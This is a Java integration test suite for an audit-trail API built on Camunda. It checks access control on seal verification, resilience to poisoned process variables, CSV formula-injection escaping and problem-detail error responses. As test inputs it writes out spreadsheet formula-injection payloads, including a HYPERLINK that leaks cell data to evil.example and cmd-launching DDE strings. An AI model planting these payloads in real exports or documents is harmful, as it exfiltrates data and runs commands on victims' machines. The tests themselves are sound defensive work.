package cn.communityworkers.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ThreadLocalRandom;

import org.camunda.bpm.engine.RepositoryService;
import org.camunda.bpm.engine.RuntimeService;
import org.camunda.bpm.engine.variable.Variables;
import org.camunda.bpm.model.bpmn.Bpmn;
import org.camunda.spin.plugin.variable.SpinValues;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.transaction.PlatformTransactionManager;
import org.springframework.transaction.support.TransactionTemplate;

import com.fasterxml.jackson.databind.JsonNode;

import cn.communityworkers.audit.Drive;
import cn.communityworkers.audit.Probe;
import cn.communityworkers.support.Api;
import cn.communityworkers.support.CsvRows;
import cn.communityworkers.support.IntegrationTest;
import cn.communityworkers.support.SealVerification;

/**
 * Issue #17, the audit trail: a value nobody can read stops no seal and no trail, no CSV cell runs as a formula in a
 * spreadsheet, and every error of {@code /api/audit} is a problem detail.
 */
@IntegrationTest
class AuditAttacksIT {

    static final String AUDITOR = "auditor";
    static final String FORMULA_STARTS = "=+-@\t\r\n\0＝＋－＠";
    static final String NESTED = "[".repeat(990) + "]".repeat(990);

    @Autowired
    TestRestTemplate rest;
    @Autowired
    RuntimeService runtimeService;
    @Autowired
    RepositoryService repositoryService;
    @Autowired
    JdbcTemplate jdbc;
    @Autowired
    PlatformTransactionManager transactionManager;
    @LocalServerPort
    int port;

    Api api;
    Drive drive;

    @BeforeAll
    static void deployProbe(@Autowired RepositoryService repositoryService) {
        Probe.deploy(repositoryService);
    }

    @BeforeEach
    void setUp() {
        api = new Api(rest);
        drive = new Drive(api);
    }

    /**
     * A verification of the seals (#23) is asked for by an auditor or an administrator on the application's own
     * pages: not anonymously, not by an approver, not by a page of another origin the auditor's browser visits.
     */
    @Test
    void onlyAnAuditorAsksForAVerificationAndOnlyFromTheApplicationsPages() throws Exception {
        long before = jdbc.queryForObject("select count(*) from audit_verification", Long.class);
        byte[] full = "{\"kind\":\"FULL\"}".getBytes(StandardCharsets.UTF_8);
        assertThat(api.call(null, HttpMethod.POST, "/api/audit/verifications", full, MediaType.APPLICATION_JSON).status())
                .isEqualTo(401);
        for (String approver : List.of("eastparty", "countysocialwork", "designer")) {
            assertThat(api.call(approver, HttpMethod.POST, "/api/audit/verifications", full, MediaType.APPLICATION_JSON)
                    .status()).as(approver).isEqualTo(403);
        }
        for (String origin : List.of("http://evil.example", "null")) {
            RawHttp.Response refused = RawHttp.request(port, "POST", "/api/audit/verifications").as(AUDITOR, Api.PASSWORD)
                    .header("Origin", origin).body("application/json", full).send();
            assertThat(refused.status()).as(origin + ": " + refused).isEqualTo(403);
        }
        assertThat(jdbc.queryForObject("select count(*) from audit_verification", Long.class)).isEqualTo(before);
    }

    /** #17 "one poisoned variable stops all sealing" (unknown class, malformed JSON, a file, JSON nested 990 deep). */
    @Test
    void aPoisonedVariableStopsNoSealing() {
        String poisoned = new TransactionTemplate(transactionManager).execute(status -> {
            // Ends as it starts, in this transaction: the history is as the sealer will find it after the commit.
            String instance = Probe.run(runtimeService, "poisoned", Map.of(
                    "payload", Variables.objectValue(new ArrayList<>(List.of("a", 1)))
                            .serializationDataFormat(Variables.SerializationDataFormats.JSON).create(),
                    "broken", Variables.serializedObjectValue("{}").objectTypeName("java.util.LinkedHashMap")
                            .serializationDataFormat(Variables.SerializationDataFormats.JSON).create(),
                    "attachment", Variables.fileValue("名单.txt").file("=1+1".getBytes(StandardCharsets.UTF_8))
                            .mimeType("text/plain").create(),
                    "nested", SpinValues.jsonValue(NESTED).create()));
            assertThat(jdbc.update("update act_hi_varinst set text2_ = 'com.example.Exploit'"
                    + " where proc_inst_id_ = ? and name_ = 'payload'", instance)).isEqualTo(1);
            assertThat(jdbc.update("update act_hi_detail set text2_ = 'com.example.Exploit'"
                    + " where proc_inst_id_ = ? and name_ = 'payload'", instance)).isEqualTo(1);
            // The engine now refuses malformed JSON when it is written: the history is made malformed afterwards,
            // as one written before that check would be.
            byte[] malformed = "{\"unclosed\": ".getBytes(StandardCharsets.UTF_8);
            assertThat(jdbc.update("update act_ge_bytearray set bytes_ = ? where id_ in (select bytearray_id_ from"
                    + " act_hi_varinst where proc_inst_id_ = ? and name_ = 'broken' union select bytearray_id_"
                    + " from act_hi_detail where proc_inst_id_ = ? and name_ = 'broken')", malformed, instance, instance))
                    .isEqualTo(2);
            return instance;
        });
        String later = endedSecondment();

        assertThat(drive.sealedTrail(later).path("seal").path("status").asText()).isEqualTo("INTACT");
        JsonNode view = drive.sealedTrail(poisoned);
        JsonNode values = view.path("trail").path("finalVariables");
        assertThat(values.path("payload").toString()).isEqualTo("[\"a\",1]");
        assertThat(values.path("broken").asText()).isEqualTo("{\"unclosed\": ");
        assertThat(values.path("attachment").path("storedAs").asText()).isEqualTo("file");
        assertThat(values.path("attachment").path("text").asText()).isEqualTo("名单.txt");
        assertThat(Drive.written(view.path("trail"), "payload").toString()).isEqualTo("[\"a\",1]");
        assertThat(values.path("nested").toString()).isEqualTo(NESTED);
        JsonNode verification = SealVerification.full(api, AUDITOR);
        verification.path("problems").forEach(problem -> assertThat(problem.toString()).doesNotContain(poisoned, later));
    }

    /** #17 "CSV cells run as formulas": comments, a variable's name and values start a cell of the auditors' CSV. */
    @Test
    void noCsvCellRunsAsAFormula() {
        LocalDate start = LocalDate.of(2041, 1, 1).plusDays(ThreadLocalRandom.current().nextInt(3000));
        String instance = drive.start("easthr", "secondment", Map.of("workerId", "W015",
                "borrowingOrganization", "=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")", "borrowingOrgLevel", "STREET",
                "borrowingOrgType", "PARTY_GOVERNMENT_ORGAN", "startDate", start.toString(),
                "endDate", start.plusMonths(1).toString(), "purpose", "@SUM(1+1)*cmd|' /C calc'!A0"));
        String task = drive.onlyTask("chunhui", instance, "Task_GiveCommunityOpinion");
        List<String> comments = List.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"查看\")", "@SUM(1+1)*cmd|' /C calc'!A0",
                "+1+cmd|' /C calc'!A0", "-1+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "＝1+1", "-12.5");
        for (String comment : comments) {
            Api.Response created = api.post(Api.ADMIN, "/engine-rest/task/" + task + "/comment/create",
                    Map.of("message", comment, "processInstanceId", instance));
            assertThat(created.status()).as(created.text()).isEqualTo(200);
        }
        Api.Response named = api.post(Api.ADMIN, "/engine-rest/process-instance/" + instance + "/variables",
                Map.of("modifications", Map.of("=1+1", Map.of("value", "x", "type", "String"))));
        assertThat(named.status()).as(named.text()).isEqualTo(204);

        HttpHeaders headers = new HttpHeaders();
        headers.setAccept(List.of(MediaType.parseMediaType("text/csv")));
        var response = rest.withBasicAuth(AUDITOR, Api.PASSWORD).exchange("/api/audit/process-instances/" + instance,
                HttpMethod.GET, new HttpEntity<>(headers), byte[].class);
        assertThat(response.getStatusCode().value()).isEqualTo(200);
        List<List<String>> rows = CsvRows.parse(new String(response.getBody(), StandardCharsets.UTF_8).substring(1));

        List<String> cells = rows.stream().flatMap(List::stream).toList();
        assertThat(cells).allSatisfy(cell -> assertThat(cell.isEmpty() || FORMULA_STARTS.indexOf(cell.charAt(0)) < 0
                || cell.matches("-?\\d+(\\.\\d+)?")).as("a cell a spreadsheet would run: %s", cell).isTrue());
        for (String comment : comments) {
            assertThat(cells).contains(comment.equals("-12.5") ? comment : "'" + comment);
        }
        assertThat(cells).contains("'=1+1=x").anyMatch(cell -> cell.contains("borrowingOrganization==HYPERLINK"));
    }

    /** #17 "some errors of /api/audit are not problem details": bad parameters, unknown ids, CSV or XML asked for. */
    @Test
    void everyErrorOfTheAuditApiIsAProblemDetail() {
        String known = endedSecondment();
        String withoutModel = instanceOfADeletedDeployment();
        Map<String, List<String>> badParameters = new LinkedHashMap<>();
        badParameters.put("page=abc", List.of("page type"));
        badParameters.put("page=1.5", List.of("page type"));
        badParameters.put("page=-1", List.of("page range"));
        badParameters.put("page=2147483647", List.of("page range"));
        badParameters.put("from=2024-13-01", List.of("from iso-date"));
        badParameters.put("to=yesterday", List.of("to iso-date"));
        badParameters.put("from=2025-02-01&to=2025-01-31", List.of("to not-before-from"));
        for (Map.Entry<String, List<String>> bad : badParameters.entrySet()) {
            Api.Response refused = call(AUDITOR, HttpMethod.GET, "/api/audit/process-instances?" + bad.getKey(), null);
            assertProblem(bad.getKey(), refused, 400);
            assertThat(refused.violations()).as(bad.getKey()).isEqualTo(bad.getValue());
        }

        Map<String, Integer> errors = new LinkedHashMap<>();
        errors.put("GET /api/audit/process-instances/no-such-instance|text/csv", 404);
        errors.put("GET /api/audit/process-instances/no-such-instance|application/xml", 404);
        errors.put("GET /api/audit/process-instances/no-such-instance|///", 404);
        errors.put("GET /api/audit/process-instances/" + known + "|text/csv;q=abc", 406);
        errors.put("GET /api/audit/process-instances/no-such-instance/diagram|application/xml", 404);
        errors.put("GET /api/audit/process-instances/" + withoutModel + "/diagram|application/xml", 404);
        errors.put("GET /api/audit/workers/no-such-worker|text/csv", 404);
        errors.put("GET /api/audit/verifications|text/csv", 406);
        errors.put("GET /api/audit/process-instances|application/xml", 406);
        errors.put("GET /api/audit/no-such-call|", 404);
        errors.put("GET /api/audit/process-instances/" + known + "/diagram/more|", 404);
        errors.put("DELETE /api/audit/verifications|", 405);
        errors.put("GET /api/audit/verifications/999999999|", 404);
        errors.forEach((call, status) -> {
            String[] parts = call.split("[ |]", 3);
            assertProblem(call, call(Api.ADMIN, HttpMethod.valueOf(parts[0]), parts[1], parts[2]), status);
        });
        // The trail of an instance whose model was deleted is still there.
        assertThat(api.get(AUDITOR, "/api/audit/process-instances/" + withoutModel).status()).isEqualTo(200);
    }

    static void assertProblem(String call, Api.Response response, int status) {
        assertThat(response.status()).as(call + ": " + response.text()).isEqualTo(status);
        assertThat(response.headers().getContentType()).as(call)
                .satisfies(type -> assertThat(type.isCompatibleWith(MediaType.APPLICATION_PROBLEM_JSON)).isTrue());
        assertThat(response.json().path("status").asInt()).as(call).isEqualTo(status);
        assertThat(response.json().path("detail").asText()).as(call).isNotBlank();
    }

    Api.Response call(String user, HttpMethod method, String path, String accept) {
        HttpHeaders headers = new HttpHeaders();
        if (accept != null && !accept.isEmpty()) {
            headers.set(HttpHeaders.ACCEPT, accept);
        }
        var response = rest.withBasicAuth(user, Api.PASSWORD).exchange(path, method, new HttpEntity<>(headers), byte[].class);
        return new Api.Response(response.getStatusCode().value(), response.getHeaders(),
                response.getBody() == null ? new byte[0] : response.getBody());
    }

    /** A secondment its community did not agree to: ended at its first task. */
    String endedSecondment() {
        LocalDate start = LocalDate.of(2041, 1, 1).plusDays(ThreadLocalRandom.current().nextInt(3000));
        return drive.secondmentTheCommunityRefuses(start, "审计攻击测试");
    }

    /** An ended instance of a process whose deployment an administrator deleted afterwards (its history kept). */
    String instanceOfADeletedDeployment() {
        String key = "auditGone" + ThreadLocalRandom.current().nextInt(1_000_000);
        String deployment = repositoryService.createDeployment().name(key).addModelInstance(key + ".bpmn",
                Bpmn.createExecutableProcess(key).camundaHistoryTimeToLive(1).startEvent().endEvent().done()).deploy().getId();
        String instance = runtimeService.startProcessInstanceByKey(key).getId();
        repositoryService.deleteDeployment(deployment);
        return instance;
    }
}
